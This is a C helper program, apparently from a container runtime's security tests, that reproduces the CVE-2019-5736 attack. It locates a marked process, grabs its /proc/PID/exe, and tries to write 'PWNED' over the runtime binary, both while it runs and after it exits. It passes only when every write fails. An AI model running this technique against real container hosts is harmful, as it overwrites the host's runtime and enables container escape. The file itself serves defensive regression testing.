/* exe_attack MARKER: CVE-2019-5736's attack on the runtime's binary, run
 * inside a container (tests/security.bats).
 *
 * It waits for a process whose command line holds the argument MARKER (a
 * husk started in the container through a `#!/proc/self/exe MARKER`
 * script, MARKER being --log=FIFO so that this husk blocks opening FIFO),
 * takes an O_PATH fd of its /proc/PID/exe, tries to open it for writing
 * while it runs, lets it go on (reads FIFO), waits for it to exit, and tries
 * again through /proc/self/fd/N (until no process runs it), then writes.  One line a step on stdout;
 * the exit status is 0 when every write attempt failed, 1 when one got
 * through, 2 when the attack could not be set up. */
#define _GNU_SOURCE
#include <errno.h>
#include <fcntl.h>
#include <dirent.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/vfs.h>
#include <time.h>
#include <unistd.h>

static void
nap (void)
{
  struct timespec ts = { 0, 10 * 1000 * 1000 };
  nanosleep (&ts, NULL);
}

/* Reads /proc/PID/NAME into buf, NUL-terminated; its length, or -1. */
static ssize_t
read_proc (int pid, const char *name, char *buf, size_t size)
{
  char path[64];
  ssize_t n;
  int fd;

  snprintf (path, sizeof path, "/proc/%d/%s", pid, name);
  fd = open (path, O_RDONLY | O_CLOEXEC);
  if (fd < 0)
    return -1;
  n = read (fd, buf, size - 1);
  close (fd);
  if (n <= 0)
    return -1;
  buf[n] = '\0';
  return n;
}

/* Whether /proc/PID's command line has the argument marker. */
static int
has_arg (int pid, const char *marker)
{
  char buf[4096];
  ssize_t n = read_proc (pid, "cmdline", buf, sizeof buf);

  for (char *p = buf; n > 0 && p < buf + n; p += strlen (p) + 1)
    if (strcmp (p, marker) == 0)
      return 1;
  return 0;
}

static int
find_pid (const char *marker)
{
  for (int tries = 0; tries < 1000; tries++, nap ())
    {
      DIR *d = opendir ("/proc");
      struct dirent *e;
      int pid = 0;

      if (d == NULL)
        return 0;
      while (pid == 0 && (e = readdir (d)))
        {
          int p = atoi (e->d_name);
          if (p > 0 && p != getpid () && has_arg (p, marker))
            pid = p;
        }
      closedir (d);
      if (pid)
        return pid;
    }
  return 0;
}

/* Opens the exe for writing through fd's magic link, and writes to it when
 * that works.  With patience, as the real attack: while another process
 * runs the file (ETXTBSY), it tries again for 10 s.  Returns 1 when
 * something was written. */
static int
try_write (const char *when, int fd, int patience)
{
  char path[64];
  int w;

  snprintf (path, sizeof path, "/proc/self/fd/%d", fd);
  for (int tries = 0;; tries++, nap ())
    {
      w = open (path, O_WRONLY | O_CLOEXEC);
      if (w >= 0 || errno != ETXTBSY || !patience || tries == 1000)
        break;
    }
  if (w < 0)
    {
      printf ("%s: open for writing: %s\n", when, strerrorname_np (errno));
      return 0;
    }
  if (pwrite (w, "PWNED", 5, 0) != 5)
    {
      printf ("%s: opened, write: %s\n", when, strerrorname_np (errno));
      close (w);
      return 0;
    }
  printf ("%s: WRITTEN\n", when);
  close (w);
  return 1;
}

/* The process is gone, or a zombie: its exe no longer mapped. */
static int
has_exited (int pid)
{
  char buf[512], *p;

  if (read_proc (pid, "stat", buf, sizeof buf) < 0)
    return 1;
  p = strrchr (buf, ')');
  return p && (p[2] == 'Z' || p[2] == 'X');
}

int
main (int argc, char **argv)
{
  char path[64], link[256], buf[4096];
  const char *fifo;
  struct statfs sfs;
  int pid, fd, f, hits = 0;
  ssize_t n;

  setvbuf (stdout, NULL, _IOLBF, 0);
  if (argc != 2)
    {
      fprintf (stderr, "usage: exe_attack --log=FIFO | PID\n");
      return 2;
    }
  fifo = strncmp (argv[1], "--log=", 6) == 0 ? argv[1] + 6 : NULL;
  pid = fifo ? find_pid (argv[1]) : atoi (argv[1]);
  if (pid == 0)
    {
      printf ("no process with %s\n", argv[1]);
      return 2;
    }
  snprintf (path, sizeof path, "/proc/%d/exe", pid);
  fd = open (path, O_PATH | O_CLOEXEC);
  if (fd < 0)
    {
      printf ("open %s: %s\n", path, strerrorname_np (errno));
      return 2;
    }
  snprintf (path, sizeof path, "/proc/self/fd/%d", fd);
  n = readlink (path, link, sizeof link - 1);
  link[n < 0 ? 0 : n] = '\0';
  if (fstatfs (fd, &sfs) < 0)
    sfs.f_type = 0;
  printf ("exe: %s fs %lx\n", link, (unsigned long) sfs.f_type);

  hits += try_write ("running", fd, 0);

  f = fifo ? open (fifo, O_RDONLY | O_CLOEXEC) : -1;
  if (fifo && f < 0)
    {
      printf ("open %s: %s\n", fifo, strerrorname_np (errno));
      return 2;
    }
  while (f >= 0 && (n = read (f, buf, sizeof buf)) > 0)
    ;
  if (f >= 0)
    close (f);
  for (int tries = 0; !has_exited (pid); tries++, nap ())
    if (tries == 1000)
      {
        printf ("%d did not exit\n", pid);
        return 2;
      }

  hits += try_write ("exited", fd, 1);
  return hits ? 1 : 0;
}
